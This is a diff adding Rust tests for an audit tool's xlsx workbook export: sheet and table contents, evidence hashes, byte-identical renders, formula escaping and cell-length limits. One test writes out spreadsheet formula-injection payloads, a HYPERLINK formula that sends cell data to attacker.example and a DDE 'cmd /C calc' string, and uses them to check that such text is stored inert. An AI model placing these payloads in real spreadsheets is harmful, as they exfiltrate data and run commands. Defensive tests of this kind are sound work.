@@ -1,0 +1,266 @@
+//! The workbook read back with an independent reader (calamine): its sheets,
+//! tables, rows and hashes, that it is the same bytes for the same evidence,
+//! and that untrusted text is never a formula.
+
+use std::collections::BTreeMap;
+use std::io::{Cursor, Read};
+use std::path::{Path, PathBuf};
+
+use calamine::{open_workbook_from_rs, Data, Range, Reader, Xlsx};
+
+use super::*;
+use crate::evaluation::ControlSet;
+use crate::outputs::ReportInput;
+use crate::report::{evaluate_inputs, Evaluated, ReportRequest};
+
+fn repo() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+/// The samples, evaluated with the repository's controls.
+fn samples() -> Evaluated {
+    evaluated(&repo().join("evidence-samples"))
+}
+
+fn evaluated(evidence: &Path) -> Evaluated {
+    let request = ReportRequest {
+        evidence: evidence.to_path_buf(),
+        out: std::env::temp_dir(),
+        controls: ControlSet::only(&repo().join("controls")),
+        config: None,
+        waivers: None,
+        fail_on: crate::evaluation::Severity::Low,
+    };
+    evaluate_inputs(&request).expect("the samples evaluate")
+}
+
+fn workbook_of(e: &Evaluated) -> Vec<u8> {
+    let input = ReportInput {
+        results: &e.results,
+        org: &e.org,
+        run: &e.run,
+        evidence: &e.evidence,
+        bundle_name: "auditpack-test",
+    };
+    results_xlsx(&input).expect("the workbook is written")
+}
+
+fn open(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
+    open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("calamine opens it")
+}
+
+fn text(cell: &Data) -> String {
+    match cell {
+        Data::String(s) => s.clone(),
+        Data::Float(f) => f.to_string(),
+        Data::Int(i) => i.to_string(),
+        Data::Empty => String::new(),
+        other => panic!("unexpected cell {other:?}"),
+    }
+}
+
+/// The rows of a table (header first), by the table's name.
+fn table(book: &mut Xlsx<Cursor<Vec<u8>>>, name: &str) -> (Vec<String>, Vec<Vec<String>>) {
+    let table = book.table_by_name(name).expect("the table exists");
+    let header = table.columns().to_vec();
+    let data: &Range<Data> = table.data();
+    let rows = data.rows().map(|r| r.iter().map(text).collect()).collect();
+    (header, rows)
+}
+
+/// A part of the xlsx zip, as text.
+fn part(bytes: &[u8], name: &str) -> String {
+    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
+    let mut out = String::new();
+    zip.by_name(name).unwrap().read_to_string(&mut out).unwrap();
+    out
+}
+
+#[test]
+fn every_sheet_table_row_and_hash_reads_back() {
+    let e = samples();
+    let bytes = workbook_of(&e);
+    let mut book = open(&bytes);
+    let sheets = book.sheet_names();
+    assert_eq!(sheets[..2], ["Summary", "Controls"]);
+    assert_eq!(
+        sheets[sheets.len() - 5..],
+        [
+            "Exceptions",
+            "Waivers",
+            "Changes",
+            "Population",
+            "Evidence index"
+        ]
+    );
+    let ids: Vec<&str> = e.results.controls.iter().map(|c| c.id.as_str()).collect();
+    assert_eq!(
+        sheets[2..sheets.len() - 5],
+        ids[..],
+        "one sheet per control, in order"
+    );
+    book.load_tables().expect("tables load");
+
+    // Controls: one row per control with its verdict.
+    let (header, rows) = table(&mut book, "T_controls");
+    assert_eq!(header[..3], ["Control", "Title", "Status"]);
+    assert_eq!(rows.len(), e.results.controls.len());
+    for (row, c) in rows.iter().zip(&e.results.controls) {
+        assert_eq!(
+            (row[0].as_str(), row[2].as_str()),
+            (c.id.as_str(), c.status.label())
+        );
+        let failed = c.results.iter().any(|i| i.status == Verdict::Fail);
+        assert_eq!(
+            !row[11].is_empty(),
+            failed,
+            "{}: remediation only where something failed",
+            c.id
+        );
+    }
+
+    // Each control: one row per item and file read, with that file's hash
+    // as the evidence index has it, and every requirement's verdict.
+    let index: BTreeMap<&str, &str> = (e.evidence.iter())
+        .map(|x| (x.path.as_str(), x.sha256.as_str()))
+        .collect();
+    let mut hashes_checked = 0;
+    for (i, c) in e.results.controls.iter().enumerate() {
+        let (header, rows) = table(&mut book, &format!("T_control_{}", i + 1));
+        let expected: usize = c.results.iter().map(|r| r.evidence.len().max(1)).sum();
+        if c.results.is_empty() {
+            continue;
+        }
+        assert_eq!(rows.len(), expected, "{}", c.id);
+        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+        let (file, sha, status, account) = (
+            column("Evidence file"),
+            column("SHA-256"),
+            column("Status"),
+            column("Account id"),
+        );
+        for a in &c.assertions {
+            assert!(
+                header.contains(&format!("req: {}", a.id)),
+                "{} {}",
+                c.id,
+                a.id
+            );
+        }
+        let mut row = rows.iter();
+        for item in &c.results {
+            for evidence in &item.evidence {
+                let r = row.next().unwrap();
+                assert_eq!(
+                    (r[account].as_str(), r[status].as_str()),
+                    (item.account_id.as_str(), item.status.label())
+                );
+                assert_eq!(r[file], evidence.path);
+                assert_eq!(r[sha], evidence.sha256);
+                assert_eq!(
+                    index[r[file].as_str()],
+                    r[sha],
+                    "{} hash as indexed",
+                    r[file]
+                );
+                hashes_checked += 1;
+            }
+            if item.evidence.is_empty() {
+                row.next();
+            }
+        }
+    }
+    assert!(hashes_checked > 500, "{hashes_checked} hashes compared");
+
+    // The evidence index: every file, its hash the hash of the file on disk.
+    let (_, rows) = table(&mut book, "T_evidence");
+    assert_eq!(rows.len(), e.evidence.len());
+    for r in rows.iter().step_by(37) {
+        let bytes = std::fs::read(repo().join("evidence-samples").join(&r[0])).unwrap();
+        assert_eq!(r[9], crate::evidence::sha256_hex(&bytes), "{}", r[0]);
+    }
+
+    // The population, the exceptions and the change population.
+    let (_, rows) = table(&mut book, "T_population");
+    assert_eq!(rows.len(), e.org.accounts.len());
+    let (_, rows) = table(&mut book, "T_exceptions");
+    let gaps: usize = (e.results.controls.iter())
+        .flat_map(|c| &c.results)
+        .flat_map(|i| &i.assertions)
+        .filter(|a| a.status == Verdict::NotAssessed)
+        .count();
+    assert_eq!(rows.len(), gaps);
+    let (header, rows) = table(&mut book, "T_changes");
+    assert_eq!(header, CHANGES_HEADER);
+    let csv = crate::outputs::changes_csv::changes_csv(&e.results);
+    assert_eq!(rows.len() + 1, csv.iter().filter(|b| **b == b'\n').count());
+    assert!(!rows.is_empty(), "the samples have changes in the period");
+
+    // Real tables with filters, headers frozen.
+    let sheet = part(&bytes, "xl/worksheets/sheet3.xml");
+    assert!(sheet.contains("state=\"frozen\""), "{sheet:.300}");
+    assert!(part(&bytes, "xl/tables/table1.xml").contains("<autoFilter"));
+}
+
+#[test]
+fn the_same_evidence_gives_the_same_bytes_dated_from_run_json() {
+    let e = samples();
+    let (a, b) = (workbook_of(&e), workbook_of(&e));
+    assert!(a == b, "two renders differ");
+    let core = part(&a, "docProps/core.xml");
+    let created = format!(">{}<", e.run.finished_at);
+    assert!(core.contains(&created), "{core}");
+}
+
+#[test]
+fn untrusted_text_is_never_a_formula() {
+    let mut e = samples();
+    let hostile = "=HYPERLINK(\"http://attacker.example/\"&A1,\"open\")";
+    let at = "@SUM(1+1)*cmd|' /C calc'!A0";
+    e.org.accounts[0].name = hostile.into();
+    e.results.controls[0].results[0].message = at.into();
+    e.results.controls[0].results[0].account_name = hostile.into();
+    let bytes = workbook_of(&e);
+    let mut book = open(&bytes);
+    let population = book.worksheet_range("Population").unwrap();
+    let cells: Vec<String> = population.rows().flat_map(|r| r.iter().map(text)).collect();
+    assert!(cells.iter().any(|c| c == hostile), "the name, as text");
+    let control = book.worksheet_range(&e.results.controls[0].id).unwrap();
+    let cells: Vec<String> = control.rows().flat_map(|r| r.iter().map(text)).collect();
+    assert!(cells.iter().any(|c| c == at) && cells.iter().any(|c| c == hostile));
+    // No formula anywhere, and the cells carry the quote prefix.
+    let mut zip = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
+    for i in 0..zip.len() {
+        let mut f = zip.by_index(i).unwrap();
+        let name = f.name().unwrap().to_string();
+        if name.starts_with("xl/worksheets/") {
+            let mut xml = String::new();
+            f.read_to_string(&mut xml).unwrap();
+            assert!(
+                !xml.contains("<f>") && !xml.contains("<f "),
+                "a formula in {name}"
+            );
+        }
+    }
+    assert!(part(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
+    assert!(looks_like_formula("-1") && looks_like_formula("+x") && !looks_like_formula("a=b"));
+}
+
+#[test]
+fn long_text_is_cut_at_the_cell_limit_and_names_fit_excel() {
+    let long = "é".repeat(40_000);
+    let cut = clip(&long);
+    assert!(cut.encode_utf16().count() <= CELL_MAX && cut.ends_with("in results.json]"));
+    assert_eq!(clip("short"), "short");
+    let mut e = samples();
+    let long_id = "custom.a-very-long-control-identifier-indeed";
+    e.results.controls[0].id = format!("{long_id}-one");
+    e.results.controls[1].id = format!("{long_id}-two");
+    let names = sheet_names(&e.results.controls, &[SUMMARY]);
+    assert_eq!(names[0].chars().count(), 31);
+    assert_ne!(names[0], names[1]);
+    assert!(names[1].ends_with("~2"), "{names:?}");
+    // And the workbook with them still opens, every sheet named.
+    let bytes = workbook_of(&e);
+    assert!(open(&bytes).sheet_names().contains(&names[1]));
+}
